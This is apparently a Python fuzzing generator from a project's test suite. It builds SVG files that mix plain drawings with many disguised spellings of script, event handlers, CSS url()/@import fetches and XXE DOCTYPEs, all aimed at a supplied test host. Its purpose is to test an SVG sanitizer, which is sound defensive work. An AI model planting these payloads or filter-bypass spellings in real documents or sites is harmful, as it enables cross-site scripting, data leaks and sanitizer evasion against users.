"""Generates SVG drawings by a grammar: what draws, mixed with what could fetch or run something, in many spellings.

`drawing(seed, host)` gives the same bytes for the same seed. Whatever is asked for or run leads to `host`, so that
a server or a search for it tells.
"""

from __future__ import annotations

import base64
import io
from collections.abc import Callable, Sequence
from random import Random

from PIL import Image

from badgepress.read.pictures.lists import DRAWS, OBSOLETE, PLAIN, PRESENTATION, PROPERTIES, XLINK
from tests.vectors.pieces import itxt, png

SVG = "http://www.w3.org/2000/svg"
#: Namespaces that drawings mix in.
OTHERS = {
    "h": "http://www.w3.org/1999/xhtml",
    "m": "http://www.w3.org/1998/Math/MathML",
    "ev": "http://www.w3.org/2001/xml-events",
    "xi": "http://www.w3.org/2001/XInclude",
    "xsl": "http://www.w3.org/1999/XSL/Transform",
    "inkscape": "http://www.inkscape.org/namespaces/inkscape",
    "i": "http://ns.adobe.com/AdobeIllustrator/10.0/",
    "rdf": "http://www.w3.org/1999/02/22-rdf-syntax-ns#",
    "u": "urn:unheard-of",
}
FRAGMENTS = ("#a", "#b", "#c", "#none", "url(#a)", "url('#b')", 'url( "#c" )', "URL(#a)", "u\\72l(#a)")
NUMBERS = ("0", "1", "-2.5", ".5", "12px", "50%", "3mm", "1e1", "calc(1px + 2px)", "10 20", "0 0 9 9", "1,2 3,4")
WORDS = ("none", "red", "#0f0", "#00ff0080", "rgb(1, 2, 3)", "hsl(120 50% 50%)", "currentColor", "inherit", "auto")
PATHS = ("M0 0H9V9Z", "M1,1 L5-5.5e1 7z", "M0 0C1 2 3 4 5 6A1 1 0 0 1 2 2")
FAMILIES = ("Arial", "'Open Sans', serif", '"x\\22 y"', "\\53 ans")


def jpeg() -> bytes:
    """Return a JPEG of a few pixels, with a comment."""
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "JPEG", comment=b"a note")
    return out.getvalue()


def _data(kind: str, data: bytes) -> str:
    return f"data:image/{kind};base64,{base64.b64encode(data).decode()}"


_PNG = _data("png", png())
_BAKED = _data("png", png(itxt("{}")))
_JPEG = _data("jpeg", jpeg())


class Grammar:
    """Writes one drawing. `heat` is how often something dangerous is mixed in."""

    def __init__(self, seed: int, host: str, heat: float) -> None:
        self.random = Random(seed)
        self.host = host
        self.heat = heat

    def one(self, choices: Sequence[str]) -> str:
        return self.random.choice(choices)

    def hot(self) -> bool:
        return self.random.random() < self.heat

    # addresses and code

    def address(self) -> str:
        host = self.host
        name = self.one(("leak.css", "leak.svg#a", "leak.png", "leak", "leak.js", "leak.woff2"))
        bare = host.partition(":")[2]
        return self.one(
            (
                host + name,
                bare + name,
                name,
                f"./{name}",
                f"/{name}",
                f"?{name}",
                f" {host}{name}",
                f"\t{bare}{name}",
                host.replace("http", "HTTP").replace(":/", ":\\") + name,
                host.replace("http:", "ht\ntp:") + name,
                f"javascript:fetch('{host}ran')",
                f"JaVa\tScRiPt:fetch('{host}ran')",
                f"data:text/html,<script>fetch('{host}ran')</script>",
                f"data:text/css,@import '{host}leak.css'",
                f"data:image/svg+xml,<svg xmlns='{SVG}'><script>fetch('{host}ran')</script>"
                f"<image href='{host}leak.png'/></svg>#a",
                _data("svg+xml", f"<svg xmlns='{SVG}'><image href='{host}leak.png'/></svg>".encode()),
                "data:image/png;base64,AAAA",
                "#a " + host,
                "",
            )
        )

    def spelled(self, word: str) -> str:
        """Return a word of CSS in one of its spellings."""
        at = self.random.randrange(len(word))
        letter = word[at]
        return (
            word[:at]
            + self.one(
                (letter, letter, letter.upper(), f"\\{ord(letter):x} ", f"\\{ord(letter):06x}", f"\\{ord(letter):X}\t")
            )
            + word[at + 1 :]
        )

    def call(self) -> str:
        """Return a value of CSS that fetches something."""
        where = self.address().replace("\n", "").replace('"', "'")
        quoted = self.one(('"{}"', "{}", " {} ", '"{}"', "/**/{}", '"{}" x', "{}/**/")).format(where)
        if " " in where or "'" in where or "(" in where:
            quoted = f'"{where}"'
        url = f"{self.spelled('url')}({quoted})"
        text = f'"{where}"'
        return self.one(
            (
                url,
                url,
                f"{url}, #a",
                f"{self.spelled('image-set')}({text} 1x)",
                f"-webkit-image-set({url} 1x, {text} 2x)",
                f"image({text})",
                f"src({text})",
                f"cross-fade({url}, red)",
                f"-webkit-cross-fade({url}, {url}, 50%)",
                f"element(#a) {url}",
                f"var(--x, {url})",
                f"attr(href type(<url>), {url})",
                f"calc(1px + {url})",
                f"paint(x) {url}",
                f"expression(fetch({text}))",
                f"blur(1px) {url}",
                f"({url})",
                f"[{url}]",
                f"{{{url}}}",
                f"url{self.one((' ', '/**/'))}({quoted})",
                f"url({where}",
                f'"\n{url}',
                f"red;background:{url}",
                f"red}}*{{background:{url}",
                f"red/*;*/;cursor:{url},auto",
                f"progid:DXImageTransform.Microsoft.AlphaImageLoader(src={text})",
                'url(#a\\")' + url,
                "url(#a\\)," + url,
            )
        )

    # values

    def value(self) -> str:
        if self.hot():
            return self.call()
        return self.one(
            (self.one(FRAGMENTS[4:]), self.one(NUMBERS), self.one(WORDS), self.one(FAMILIES), self.one(PATHS))
        )

    def attribute(self, element: str) -> tuple[str, str]:
        """Return the name and value of one attribute."""
        if self.hot():
            return self.one_of(self._handler, self._address, self._steps, self._hot_style, self._hot_plain)
        return self.one_of(
            lambda: (self.one(sorted(PLAIN)), self.one(NUMBERS)),
            lambda: (self.one(sorted(PRESENTATION)), self.value()),
            lambda: ("fill", self.one(WORDS)),
            lambda: ("style", self.declarations()),
            lambda: ("id", self.one(("a", "b", "c", "x y", "leer & <'"))),
            lambda: ("class", self.one(("a", "st0", "b c"))),
            lambda: (self.one(("href", "xlink:href")), self.one(FRAGMENTS[:4])),
            lambda: ("href", self.one((_PNG, _JPEG, _BAKED))) if element in ("image", "feImage") else ("x", "1"),
            lambda: (
                self.one(("data-name", "inkscape:label", "i:knockout", "u:x", "aria-label", "xml:space")),
                "preserve",
            ),
        )

    def one_of(self, *makers: Callable[[], tuple[str, str]]) -> tuple[str, str]:
        return self.random.choice(makers)()

    def _handler(self) -> tuple[str, str]:
        name = self.one(("onload", "onclick", "onbegin", "ONLOAD", "onmouseover", "onfocusin", "onerror", "onpageshow"))
        return name, f"fetch('{self.host}ran');document.title='ran';alert(1)"

    def _address(self) -> tuple[str, str]:
        names = (
            "href xlink:href src ping action formaction srcset poster background data xml:base base target download"
            " code profile externalResourcesRequired content-location h:href h:src xlink:role filter mask cursor"
        )
        return self.one(names.split()), self.address()

    def _steps(self) -> tuple[str, str]:
        name = self.one(("values", "from", "to", "by", "attributeName", "begin", "path"))
        values = (self.address(), f"#a;{self.address()}", f"red;{self.call()}", "href", "xlink:href", "onload", "style")
        return name, self.one(values)

    def _hot_style(self) -> tuple[str, str]:
        return "style", self.declarations()

    def _hot_plain(self) -> tuple[str, str]:
        return self.one(sorted(PLAIN | PRESENTATION)), self.call()

    # styles

    def declarations(self) -> str:
        extra = ("background", "background-image", "list-style", "content", "behavior", "-moz-binding", "--x", "cursor")
        more = ("border-image", "-webkit-mask-image", "mask-image", "shape-outside", "src", "filter", "offset-path")
        made = []
        for _ in range(self.random.randint(1, 4)):
            name = self.one((*extra, *more)) if self.hot() else self.one(sorted(PROPERTIES))
            ending = self.one(("", "", "", " !important", "!ie", "/*x*/"))
            made.append(f"{self.spelled(name)}{self.one((':', ' : ', '/**/:'))}{self.value()}{ending}")
        return self.one((";", " ; ", ";;", ";\n")).join(made)

    def rule(self, depth: int = 0) -> str:
        """Return one rule of a style sheet."""
        inside = self.declarations()
        if self.hot():
            url = self.call()
            where = self.address().replace('"', "'")
            return self.one(
                (
                    f'@import "{where}";',
                    f"@{self.spelled('import')} {url};",
                    f"@import/**/{url} screen;",
                    f"@font-face{{font-family:F;src:{url}}}text{{font-family:F}}",
                    f"@media screen{{@import {url};rect{{fill:{url}}}}}",
                    f"@supports (fill:red){{*{{background-image:{url}}}}}",
                    f"@layer x{{*{{background:{url}}}}}",
                    f"@namespace url({SVG});*{{fill:{url}}}",
                    f"@charset \"utf-8\";@import '{where}';",
                    f"rect{{fill:red;&:hover{{fill:{url}}}}}",
                    f"rect{{fill:red;@media all{{background:{url}}}}}",
                    f"/*{'*/'}@import {url};",
                    f"<!-- @import {url}; -->",
                    f"x{{}}}}@import {url};",
                    f"\\@import {url};*{{background:{url}}}",
                    f"@page{{background:{url}}}",
                    f"@property --x{{syntax:'<url>';inherits:true;initial-value:{url}}}",
                    f'a[href="{where}"]{{fill:{url}}}',
                    f"@keyframes k{{from{{background:{url}}}to{{fill:red}}}}*{{animation:k 1s}}",
                    f"*{{{self.declarations()}",
                    f"@document url({self.host}){{*{{fill:red}}}}",
                )
            )
        selector = self.one(
            ("*", "rect", ".st0", "#a", "rect > path", "g:not(.b)", "[id='a']", ":root", ".a\\:b", "text::selection")
        )
        plain = f"{selector}{{{inside}}}"
        if depth < 2:
            return self.one(
                (
                    plain,
                    plain,
                    f"@media (prefers-color-scheme: dark) and (width >= 1px){{{self.rule(depth + 1)}}}",
                    f"@keyframes k{{from{{{inside}}}50%{{fill:red}}}}",
                    f"/* a note */{plain}",
                )
            )
        return plain

    def sheet(self) -> str:
        """Return a style element, with its text in one of the forms of XML."""
        text = "\n".join(self.rule() for _ in range(self.random.randint(1, 3)))
        if self.hot():
            where = self.one((f'"{self.host}leak.css"', self.call()))
            text = f"@{self.spelled('import')} {where};{text}"
        kind = self.one(("", "", ' type="text/css"', ' media="screen"', ' type="text/less"', ' title="x"'))
        if self.random.random() < 0.5 and "]]>" not in text:
            inside = f"<![CDATA[{text}]]>"
        elif self.random.random() < 0.3:
            inside = "".join(f"&#{ord(letter)};" if self.random.random() < 0.2 else _text(letter) for letter in text)
        else:
            inside = _text(text)
        if self.hot():
            at = len(text) // 2
            inside = self.one(
                (
                    f"<style/>{_text(text)}",
                    f"<g/>{inside}",
                    f"{_text(text[:at])}<!-- x -->{_text(text[at:])}",
                    f"{_text(text[:at])}<?x y?>{_text(text[at:])}",
                    f"<h:style>{_text(text)}</h:style>",
                )
            )
        return f"<style{kind}>{inside}</style>"

    # elements

    def element(self, depth: int = 0) -> str:
        if self.random.random() < 0.15:
            return self.sheet()
        name = self.one(sorted(DRAWS - {"svg", "style"}))
        if self.hot():
            if self.random.random() < 0.4:
                return self.acting()
            name = self.one(
                (*sorted(OBSOLETE), "metadata", "m:math", "h:img", "h:a", "i:pgf", "u:x", "rdf:RDF", "m:maction")
            )
        return self.tag(name, depth)

    def tag(self, name: str, depth: int) -> str:
        attributes: dict[str, str] = {}
        for _ in range(self.random.randint(0, 4)):
            key, value = self.attribute(name)
            attributes.setdefault(key, value)
        if name in ("animate", "set", "animateTransform"):
            attributes.setdefault("attributeName", self.one(("fill", "d", "transform", "opacity", "x")))
            attributes.setdefault("dur", "1s")
        if name in ("image", "feImage", "rect", "use", "pattern", "mask"):
            attributes = {"width": "5", "height": "5"} | attributes
        written = "".join(f' {key}="{self.quoted(value)}"' for key, value in attributes.items())
        inside = ""
        if depth < 4:
            inside = "".join(self.element(depth + 1) for _ in range(self.random.choice((0, 0, 0, 1, 2))))
        if name in ("text", "tspan", "title", "desc", "a", "textPath") or self.random.random() < 0.05:
            inside = _text(self.one(("words", "<b>", "&amp;", "]]>", "</style><script>"))) + inside
        return f"<{name}{written}>{inside}</{name}>" if inside else f"<{name}{written}/>"

    def acting(self) -> str:
        """Return complete markup that runs or fetches something."""
        host, where = self.host, _text(self.address().replace('"', "'")).replace("\n", "&#10;")
        run = f"fetch('{host}ran');document.title='ran'"
        return self.one(
            (
                f"<script>{run}</script>",
                f'<script href="{host}leak.js"/>',
                f"<h:script>{run}</h:script>",
                f'<h:script src="{host}leak.js"/>',
                f'<foreignObject width="9" height="9"><h:iframe src="{where}"/></foreignObject>',
                f'<foreignObject width="9" height="9"><h:img src="{where}" onerror="{run}"/></foreignObject>',
                f'<foreignObject requiredExtensions="x"><i:pgfRef xlink:href="{where}"/></foreignObject>',
                f'<h:link rel="stylesheet" href="{host}leak.css"/>',
                f'<h:meta http-equiv="refresh" content="0;url={host}leak"/>',
                f'<h:base href="{host}"/>',
                f"<h:style>@import '{host}leak.css';</h:style>",
                f'<h:object data="{where}"/><h:embed src="{where}"/>',
                f'<h:video src="{where}" poster="{where}"/>',
                f'<m:math><m:mtext href="{where}"><h:img src="{where}"/></m:mtext></m:math>',
                f'<m:math><m:maction actiontype="statusline" xlink:href="{where}">x</m:maction></m:math>',
                f'<image href="{where}" width="5" height="5"/>',
                f'<image xlink:href="{where}" width="5" height="5"/>',
                f'<image width="5" height="5"><set attributeName="href" to="{where}"/></image>',
                f'<image width="5" height="5"><animate attributeName="xlink:href" values="{where};{where}" dur="1s"/>'
                "</image>",
                f'<image id="i" width="5" height="5"/><set href="#i" attributeName=" href " to="{where}" begin="0s"/>',
                f'<use href="{where}"/>',
                f'<use xlink:href="{where}"/>',
                f'<feImage href="{where}"/>',
                f'<filter id="f"><feImage xlink:href="{where}"/></filter><rect filter="url(#f)" width="9" height="9"/>',
                f'<a href="{where}" target="_self"><rect width="9" height="9"/></a>',
                f'<a href="#x" ping="{host}leak"><rect width="9" height="9"/></a>',
                f'<rect width="9" height="9" fill="red"><set attributeName="fill" to="url({where})"/></rect>',
                f'<rect width="9" height="9"><set attributeName="style" to="fill:url({where})"/></rect>',
                f'<rect width="9" height="9"><animate attributeName="onload" to="{run}"/></rect>',
                f"<g xml:base='{host}'><image href='leak.png' width='5' height='5'/></g>",
                '<image href="#a" width="5" height="5"/><image href="" width="5" height="5"/>',
                f'<linearGradient href="{where}" id="g"/><rect fill="url(#g)" width="5" height="5"/>',
                f'<pattern id="p" width="5" height="5"><image href="{where}" width="5" height="5"/></pattern>',
                f'<textPath href="{where}">x</textPath><mpath href="{where}"/><tref xlink:href="{where}"/>',
                f'<cursor xlink:href="{where}"/><color-profile xlink:href="{where}"/>',
                f'<font-face font-family="F"><font-face-src><font-face-uri xlink:href="{host}leak.svg#F"/>'
                '</font-face-src></font-face><text font-family="F">x</text>',
                f'<handler type="application/ecmascript" ev:event="load">{run}</handler>',
                f'<metadata><h:script>{run}</h:script><style>@import "{host}leak.css";</style></metadata>',
                f'<title><h:img src="{where}"/></title>',
                f"<desc><script>{run}</script></desc>",
                f'<xi:include href="{where}"/>',
                f'<iframe xmlns="" src="{where}"/>',
                f'<image xmlns="" href="{where}"/>',
                f'<audio xmlns="{OTHERS["h"]}" src="{where}"/>',
                f'<svg onload="{run}"/>',
                f'<rect width="9" height="9" onclick="{run}" onmouseover="{run}" onpointerdown="{run}"/>',
                f'<rect><animate attributeName="x" dur="1s" onbegin="{run}"/></rect>',
                f'<image width="9" height="9" href="{host}none" onerror="{run}"/>',
                f'<style>@import "{host}leak.css";</style>',
                f"<style>*{{background-image:url({host}leak.png);cursor:url({host}leak.cur),auto}}</style>",
                f'<rect width="9" height="9" style="mask-image:url({where});-webkit-mask:image-set(\'{host}x\' 1x)"/>',
                f'<rect cursor="url({where}),auto" filter="url({where})" clip-path="url({where})" width="9"/>',
            )
        )

    def quoted(self, value: str) -> str:
        """Return an attribute's value with some letters as character references."""
        escaped = _text(value).replace('"', "&quot;")
        if self.random.random() < 0.2:
            at = self.random.randrange(len(value) + 1)
            if at < len(value):
                return (
                    _text(value[:at]).replace('"', "&quot;")
                    + f"&#x{ord(value[at]):x};"
                    + _text(value[at + 1 :]).replace('"', "&quot;")
                )
        return escaped

    def document(self) -> bytes:
        """Return the whole drawing."""
        head, root = "", "svg"
        if self.hot():
            head = self.one(
                (
                    f'<?xml-stylesheet href="{self.host}leak.css"?>',
                    f'<!DOCTYPE svg SYSTEM "{self.host}leak.dtd">',
                    f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{self.host}leak.ent">]>',
                    f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{self.host}leak.dtd"> %p;]>',
                    f"<!DOCTYPE svg [<!ATTLIST rect onload CDATA \"fetch('{self.host}ran')\">]>",
                    "<!DOCTYPE svg [<!ENTITY e \"&#60;script>fetch('" + self.host + "ran')&#60;/script>\">]>",
                    '<!DOCTYPE svg [<!ENTITY e "url(' + self.host + 'leak)">]>',
                    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "' + self.host + 'leak.dtd" [<!ENTITY e "red">]>',
                    "<?xpacket x?><!-- a note -->",
                )
            )
        spaces = f'xmlns="{SVG}"'
        declared = "".join(f' xmlns:{prefix}="{space}"' for prefix, space in OTHERS.items())
        body = "".join(self.element() for _ in range(self.random.randint(1, 4)))
        if "<!ENTITY e " in head:
            body += '<rect width="9" height="9" fill="&e;"/>' + self.one(("", "&e;", "<style>*{fill:&e;}</style>"))
        extra = ""
        if self.hot():
            name, value = self._handler() if self.random.random() < 0.5 else self.attribute("svg")
            extra = f' {name}="{self.quoted(value)}"'
        size = self.one(
            ('viewBox="0 0 9 9"', 'width="9mm" height="9mm"', 'width="90" height="90" viewBox="0 0 9 9"', "")
        )
        declaration = self.one(("", '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>'))
        text = f'{declaration}{head}<{root} {spaces} xmlns:xlink="{XLINK}"{declared} {size}{extra}>{body}</{root}>'
        if self.random.random() < 0.02:
            return text.replace("UTF-8", "UTF-16").encode(self.one(("utf-16", "utf-16-le", "utf-7")))
        if self.random.random() < 0.1:
            text = text.replace("<svg ", f'<s:svg xmlns:s="{SVG}" ', 1).removesuffix("</svg>") + "</s:svg>"
        return text.encode()


def _text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def drawing(seed: int, host: str, heat: float = 0.06) -> bytes:
    """Return the drawing of a seed. `host` is an address with a slash at its end; with heat 0 it only draws."""
    return Grammar(seed, host, heat).document()
